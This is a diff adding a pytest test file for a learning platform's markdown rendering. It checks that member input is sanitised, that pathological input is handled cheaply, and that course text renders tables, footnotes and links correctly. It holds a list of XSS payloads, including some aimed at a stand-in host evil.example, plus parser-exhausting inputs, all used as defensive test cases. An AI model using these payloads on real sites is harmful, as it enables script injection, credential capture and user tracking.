@@ -1,0 +1,266 @@
+import re
+
+import pytest
+from justhtml import JustHTML
+from markdown import Markdown
+
+from lms import markdown
+from lms.markdown import MEMBER_LIMIT, from_member, from_repository, sanitised, too_costly
+
+LINKS = {"case:bagru": "/case-studies/bagru", "lesson:x/a1-1": "/courses/x/a1-1"}
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='data:text/html,<script>alert(1)</script>'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<base href='//evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{display:none}</style>",
+    "<p style='position:fixed'>x</p>",
+    "<form action=//evil.example><input name=password></form>",
+    "<button formaction='javascript:alert(1)'>x</button>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' &#x6A;avascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a onclick=alert(1) href='https://a.example'>x</a>",
+    "<a href='https://a.example' target=_blank rel=opener>x</a>",
+    "<div id=main class=toast tabindex=0>x</div>",
+    "<p id=main name=main>x</p>",
+    "<h3 id=main>x</h3>",
+    "<!--><script>alert(1)</script>-->",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<template><script>alert(1)</script></template>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](vbscript:msgbox)",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](https://a.example 'y\" onmouseover=\"alert(1)')",
+    '[x](https://a.example"onmouseover="alert(1))',
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    '![x"onerror="alert(1)](https://a.example/x.png)',
+    "![x](https://evil.example/pixel.png)",
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    '<https://a.example/"onclick="alert(1)>',
+    "https://a.example/<script>alert(1)</script>",
+    'https://a.example/"onclick=alert(1)',
+    "# x {: onclick=alert(1) #main }",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "> <script>alert(1)</script>",
+    "* <img src=x onerror=alert(1)>",
+    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
+    "wzxhzdk:0 <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+]
+
+TAGS = {"p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a"}
+HEADINGS = {"h3", "h4", "h5", "h6"}
+ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}
+
+
+def dangers(html: str) -> list[str]:
+    """What a browser would find in the HTML beyond the few things members may use."""
+    found = []
+    for element in JustHTML(html, sanitize=False, fragment=True).query("*"):
+        tag, attributes = element.name, element.attrs or {}
+        if tag not in TAGS | HEADINGS:
+            found.append(f"<{tag}>")
+        found += [f"{tag}.{name}" for name in attributes.keys() - ATTRIBUTES.get(tag, set())]
+        scheme = scheme_of(attributes.get("href") or "")
+        found += [scheme] if scheme not in {"", "http", "https", "mailto"} else []
+    return found
+
+
+def scheme_of(address: str) -> str:
+    """As browsers read it, without tabs, line ends and leading blanks."""
+    seen = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
+    match = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
+    return match[1].lower() if match else ""
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_a_member_types_runs(attack: str) -> None:
+    assert dangers(from_member(attack)) == []
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_the_sanitiser_stands_without_the_parsers_help(attack: str) -> None:
+    html = Markdown(extensions=["attr_list"], output_format="html").convert(attack)
+
+    assert dangers(sanitised(html)) == []
+
+
+def test_without_the_sanitiser_the_same_attacks_are_seen() -> None:
+    parse = Markdown(extensions=["attr_list"], output_format="html").convert
+
+    harmless = [attack for attack in ATTACKS if not dangers(parse(attack))]
+
+    assert len(harmless) < len(ATTACKS) / 4, harmless
+
+
+def test_html_that_a_member_types_is_shown_as_text() -> None:
+    assert (
+        from_member("Use <b>bold</b> & <i>") == "<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;i&gt;</p>"
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("One\ntwo", "<p>One<br>\ntwo</p>"),
+        ("**a** *b* `c`", "<p><strong>a</strong> <em>b</em> <code>c</code></p>"),
+        ("# Title", "<h3>Title</h3>"),
+        ("##### Deep", "<h6>Deep</h6>"),
+        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
+        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
+        ("हिन्दी العربية", "<p>हिन्दी العربية</p>"),
+        ("", ""),
+    ],
+)
+def test_members_may_use_a_small_part_of_markdown(text: str, html: str) -> None:
+    assert from_member(text) == html
+
+
+REL = 'rel="noopener noreferrer nofollow ugc"'
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("[a](https://a.example)", f'<a href="https://a.example" {REL}>a</a>'),
+        (
+            "See https://a.example/x_y_z?q=1.",
+            f'See <a href="https://a.example/x_y_z?q=1" {REL}>https://a.example/x_y_z?q=1</a>.',
+        ),
+        (
+            "[https://a.example](https://b.example)",
+            f'<a href="https://b.example" {REL}>https://a.example</a>',
+        ),
+        ("[a](/notes/3)", f'<a href="/notes/3" {REL}>a</a>'),
+    ],
+)
+def test_links_of_members_are_marked_as_theirs(text: str, html: str) -> None:
+    assert from_member(text) == f"<p>{html}</p>"
+
+
+COSTLY = {
+    "unclosed brackets": "[" * 5000,
+    "unclosed pictures": "![" * 5000,
+    "unclosed addresses": "[a](<" * 4000,
+    "brackets closed late": "[" * 200 + "]" * 200,
+    "backticks": "``a`" * 2000,
+    "underlines": "a\n=\n" * 2000,
+    "quotes in quotes": ">" * 5000,
+    "lists in lists": "- " * 5000,
+    "numbers in numbers": "1. " * 5000,
+    "deep indents": "\n".join("    " * depth + "- a" for depth in range(60)),
+    "too long": "a " * (MEMBER_LIMIT // 2 + 1),
+    "too long in bytes": "हि" * (MEMBER_LIMIT // 6 + 1),
+}
+
+
+@pytest.mark.parametrize("text", COSTLY.values(), ids=COSTLY)
+def test_text_that_would_take_too_long_is_shown_as_it_stands(
+    text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.delattr(markdown, "Markdown")
+
+    html = from_member(text)
+
+    assert too_costly(text)
+    assert JustHTML(html, sanitize=False, fragment=True).to_text().split() == text.split()
+
+
+def test_ordinary_long_text_is_not_too_costly() -> None:
+    note = "We met [the millers](https://a.example) on **Monday**.\n\n- one\n    - two\n\n" * 90
+
+    assert not too_costly(note)
+
+
+def test_text_shown_as_it_stands_keeps_its_lines_and_is_escaped() -> None:
+    html = from_member("<b>one\ntwo\n\nthree" + "[" * 101)
+
+    assert html == f"<p>&lt;b&gt;one<br>\ntwo</p>\n<p>three{'[' * 101}</p>"
+
+
+def test_nesting_the_parser_cannot_follow_is_shown_as_it_stands(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    def give_up(_self: Markdown, _source: str) -> str:
+        raise RecursionError
+
+    monkeypatch.setattr(Markdown, "convert", give_up)
+
+    assert from_member("- a") == "<p>- a</p>"
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("[B](case:bagru)", '<p><a href="/case-studies/bagru">B</a></p>'),
+        ("[L](lesson:x/a1-1)", '<p><a href="/courses/x/a1-1">L</a></p>'),
+        ("[J](case:jaipur)", "<p><span>J</span></p>"),
+        ("[W](https://w.example)", '<p><a href="https://w.example">W</a></p>'),
+        ("## Two words", '<h2 id="p-two-words">Two words</h2>'),
+        ("[up](#two)", '<p><a href="#p-two">up</a></p>'),
+        (
+            "![A mill](media/mill.svg)",
+            '<p><img alt="A mill" loading="lazy" src="/courses/x/media/mill.svg"></p>',
+        ),
+        ('"Yes" -- no', "<p>&ldquo;Yes&rdquo; &ndash; no</p>"),
+        (
+            '!!! try "In your cluster"\n    Go.',
+            '<div class="admonition try">\n<p class="admonition-title">In your cluster</p>\n<p>Go.</p>\n</div>',  # noqa: E501
+        ),
+        ("Term\n:   meaning", "<dl>\n<dt>Term</dt>\n<dd>meaning</dd>\n</dl>"),
+        ("<abbr>raw</abbr>", "<p><abbr>raw</abbr></p>"),
+    ],
+)
+def test_text_of_the_repository_may_use_all_we_need(text: str, html: str) -> None:
+    assert from_repository(text, LINKS, id_prefix="p-", media="/courses/x") == html
+
+
+def test_a_table_scrolls_in_a_region_named_by_its_heads() -> None:
+    html = from_repository('| "Firm" | n |\n|---|--:|\n| Mill | 12 |\n\nAfter', {})
+
+    assert html.startswith(
+        '<div aria-label="&ldquo;Firm&rdquo;, n" class="scroll" role="region" tabindex="0"><table>'
+    )
+    assert '<th class="align-right" scope="col">n</th>' in html
+    assert '<td class="align-right">12</td>' in html
+    assert "style=" not in html
+    assert html.endswith("</table></div>\n<p>After</p>")
+
+
+def test_a_table_without_heads_still_has_a_name() -> None:
+    assert 'aria-label="Table"' in from_repository("| | |\n|---|---|\n| a | b |", {})
+
+
+def test_footnotes_of_two_texts_on_one_page_do_not_share_ids() -> None:
+    text = "A[^1]\n\n[^1]: Note."
+
+    pages = [from_repository(text, {}, id_prefix=prefix) for prefix in ("a-", "b-")]
+
+    ids = [re.findall(r'id="([^"]+)"', page) for page in pages]
+    assert ids == [["a-fnref:1", "a-fn:1"], ["b-fnref:1", "b-fn:1"]]
+    assert re.findall(r'href="#([^"]+)"', pages[0]) == ["a-fn:1", "a-fnref:1"]
